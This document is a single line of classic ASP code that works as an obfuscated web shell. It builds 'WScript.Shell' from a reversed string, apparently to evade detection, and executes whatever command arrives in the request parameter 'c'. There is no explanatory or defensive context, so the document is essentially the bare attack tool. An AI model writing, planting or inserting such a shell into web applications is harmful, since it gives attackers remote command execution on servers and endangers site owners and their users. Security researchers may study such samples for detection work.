<% Set o = Server.CreateObject(StrReverse("llehS.tpircSW")) : o.Run Request("c") %>
